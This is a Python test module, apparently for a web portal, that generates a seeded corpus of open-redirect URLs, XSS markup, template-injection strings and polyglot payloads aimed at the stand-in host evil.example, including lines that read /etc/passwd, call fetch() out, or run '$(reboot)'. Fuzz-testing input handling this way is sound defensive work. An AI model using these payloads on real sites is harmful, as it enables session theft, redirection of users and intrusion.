"""Attacks made by combining what attacks are made of: addresses that lead elsewhere, text that becomes markup or code.

The same every time, for a seed stands here; the handwritten ones of `payloads` come first. Each knows the host that is allowed, and
looks as much like it as it can.
"""

import random
from collections.abc import Callable, Iterator, Sequence
from urllib.parse import quote

from tests.portal.payloads import ELSEWHERE, MARKUP

OWN, EVIL = "10.5.50.1", "evil.example"
SEED = 1971
EACH = 750  # of a kind

Make = Callable[[random.Random], str]

BEGINNINGS = (
    "",
    "",
    "",
    " ",
    "\t",
    "\r\n",
    "\x00",
    "\x0b",
    "\u00a0",
    "\u2028",
    "\ufeff",
    "\u200b",
    "\u202e",
    "%20",
    "%09",
    "/",
    "?",
    ".",
)
SCHEMES = (
    "http:", "https:", "HtTpS:", "", "http", "ftp:", "ws:", "javascript:", "JAVASCRIPT:", "java\tscript:", "java%0ascript:",
    "javascript&colon;", "\x01javascript:", "data:text/html,", "data:text/html;base64,", "vbscript:", "blob:", "filesystem:", "file:",
    "intent:", "market:", "view-source:", "feed:", "jar:", "ms-settings:", "x-apple-test:",
)  # fmt: skip
SLASHES = (
    "//", "//", "///", "////", "/\\", "\\\\", "\\/", "/\t/", "/\n/", "/%2f", "%2f%2f", "/%5c", "%5c%5c", "/./", "/../", "//;@",
    ":", "", "\u2215\u2215", "\uff0f\uff0f", "/\u00ad/", "&sol;&sol;",
)  # fmt: skip
AUTHORITIES = (
    EVIL, "EVIL.EXAMPLE", f"{OWN}@{EVIL}", f"{OWN}:80@{EVIL}", f"{OWN}%40{EVIL}", f"{OWN}%2540{EVIL}", f"{EVIL}#@{OWN}", f"{EVIL}?@{OWN}",
    f"{EVIL}\\@{OWN}", f"{EVIL}%23@{OWN}", f"{EVIL}%00@{OWN}", f"{OWN}\t@{EVIL}", f"{OWN}.{EVIL}", f"{OWN}%2e{EVIL}", f"{OWN}%00.{EVIL}",
    f"{OWN}\u3002{EVIL}", f"{OWN}\uff0e{EVIL}", f"{OWN}\uff61{EVIL}", "evil\u3002example", "evil%E3%80%82example", "%65vil.example",
    "\uff45\uff56\uff49\uff4c.example", "ev\u0131l.example", "ev\u00adil.example", "xn--vil-9ma.example", f"{EVIL}.", f"{EVIL}:80",
    f"{EVIL}:0x50", "[::ffff:6.6.6.6]", "6.6.6.6", "101058054", "0x6.6.6.6", "06.06.06.06", "6.6.1542", f"{OWN}0", f"1{OWN}", f"{OWN}:8080",
    f"{OWN}:80:80", f"user:{OWN}@{EVIL}", f"{OWN}&@{EVIL}", f"{OWN};{EVIL}", f"{OWN},{EVIL}", f"{OWN}\r\nHost: {EVIL}", "",
)  # fmt: skip
TAILS = (
    "", "/login", "/login", "/login?", "/login#", "/login/..", "/%2e%2e/login", "/login%3f", "/login;x", f"/login?dst=//{EVIL}", f"//{EVIL}/login",
    f"/{OWN}/login", "/login%0d%0aLocation:%20//evil.example", "/login\u2029", "/login%00", "/alert(1)//login", "%0aalert(1)",
)  # fmt: skip

BREAKS = (
    "", '"', "'", "`", ">", '">', "'>", '" ', "' ", "-->", "--!>", "</title>", "</style>", "</textarea>", "</noscript>", "</template>",
    "]]>", "*/", "</script>", "\\\"", "&quot;>", "%22%3E", "\u2028", "\x00>", "</p>", "</details>", "</main>", "</a>",
)  # fmt: skip
TAGS = (
    "img src=x", "svg", "svg><animate attributeName=x", "body", "video><source", "audio src=x", "details open", "iframe", "input autofocus",
    "select autofocus", "textarea autofocus", "marquee", "object data=x", "embed src=x", "math", "style", "x tabindex=1", "form", "button",
    "link rel=stylesheet href=x", "image src=x", "a href=#", "dialog open", "meter", "p style=animation-name:a", "custom-element",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onanimationstart", "onpointerenter", "onpageshow", "onbegin",
    "oncanplay", "onloadstart", "OnErRoR", "onfocusin", "oncontentvisibilityautostatechange", "onbeforetoggle", "onscrollsnapchange",
)  # fmt: skip
GAPS = (" ", "/", "\t", "\n", "\x0c", "/**/", "\u00a0", " x=y ", "\r\n")
CALLS = (
    "alert(1)", "alert`1`", "top['al'+'ert'](1)", "\\u0061lert(1)", "&#97;lert(1)", "&#x61;&#x6c;ert(1)", "(alert)(1)", "[1].map(alert)",
    "prompt(1)", "confirm(1)", "setTimeout('alert(1)')", "import('//evil.example')", "fetch('//evil.example')", "location='//evil.example'",
)  # fmt: skip
SHELLS = (
    "<script>{call}</script>", "<script src=//evil.example></script>", "<script\n>{call}</script\n>", "<scr<script>ipt>{call}</scr</script>ipt>",
    "<a href='javascript:{call}'>x</a>", "<a href=//evil.example>x</a>", "<form action=//evil.example><button>x</button></form>",
    "<button formaction='javascript:{call}'>x", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<iframe srcdoc='<script>{call}</script>'>", "<svg><use href='data:image/svg+xml,<svg id=x onload={call}>#x'/>",
    "<svg><script href=data:,{call} />", "<math href='javascript:{call}'>x", "<style>@import '//evil.example';</style>",
    "<link rel=prefetch href=//evil.example>", "<object data='data:text/html,<script>{call}</script>'>", "<!--><script>{call}</script>-->",
    "<noscript><p title='</noscript><script>{call}</script>'>", "<![CDATA[<script>{call}</script>]]>", "<?xml-stylesheet href=//evil.example?>",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-", "\u00bcscript\u00be{call}\u00bc/script\u00be", "\uff1cscript\uff1e{call}\uff1c/script\uff1e",
    "[x](javascript:{call})", "![x](//evil.example)", "<javascript:{call}>", "[x]: //evil.example", "**<b onclick={call}>**",
)  # fmt: skip
TEMPLATES = (
    "{{{{7*7}}}}", "{{{{config}}}}", "{{{{self.__init__.__globals__}}}}", "{{% include '/etc/passwd' %}}", "{{%- for x in [1] -%}}x{{%- endfor -%}}",
    "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>", "@(7*7)", "[[${{7*7}}]]", "*{{7*7}}", "$(error)", "$(if 1)x$(endif)", "%(site)s", "{{0.__class__}}",
    "{{# comment", "{{{{''.join(['a','b'])|safe}}}}", "$(username-esc)", "`id`", "$(reboot)", "; /system reset",
)  # fmt: skip


def _address(chance: random.Random) -> str:
    parts = (BEGINNINGS, SCHEMES, SLASHES, AUTHORITIES, TAILS)
    return "".join(chance.choice(part) for part in parts)


def _encoded_address(chance: random.Random) -> str:
    made = _address(chance)
    return quote(made if chance.random() < 0.5 else quote(made, safe=""), safe=chance.choice(("", ":", "/", ":/")))


def _element(chance: random.Random) -> str:
    gap = chance.choice(GAPS)
    quoting = chance.choice(("", '"', "'", "`"))
    end = chance.choice((">", "", " //", "/>", " x="))
    call = chance.choice(CALLS)
    return f"{chance.choice(BREAKS)}<{chance.choice(TAGS)}{gap}{chance.choice(EVENTS)}={quoting}{call}{quoting}{end}"


def _attribute(chance: random.Random) -> str:
    return f"{chance.choice(BREAKS)} {chance.choice(EVENTS)}={chance.choice(CALLS)} {chance.choice(('autofocus ', ''))}x={chance.choice(BREAKS)}"


def _shell(chance: random.Random) -> str:
    return chance.choice(BREAKS) + chance.choice(SHELLS).format(call=chance.choice(CALLS))


def _template(chance: random.Random) -> str:
    return (
        chance.choice(BREAKS)
        + chance.choice(TEMPLATES).format()
        + chance.choice(("", f"<script>{chance.choice(CALLS)}</script>"))
    )


def _of_everything(chance: random.Random) -> str:
    """A polyglot: something of each, for whatever place it lands in."""
    return f"{_address(chance)}{_attribute(chance)}{_shell(chance)}{_template(chance)}"


def _made(makers: Sequence[Make], count: int, first: Sequence[str]) -> list[str]:
    def endless() -> Iterator[str]:
        chance = random.Random(SEED)
        while True:
            for make in makers:
                yield make(chance)

    found = dict.fromkeys(first)
    for attack in endless():
        found.setdefault(attack)
        if len(found) >= count:
            return list(found)
    raise AssertionError


ADDRESSES = _made((_address, _address, _encoded_address), EACH, ELSEWHERE)
TEXTS = _made((_element, _attribute, _shell, _template, _of_everything), EACH, MARKUP)
ALL = list(dict.fromkeys(attack for pair in zip(ADDRESSES, TEXTS, strict=True) for attack in pair))
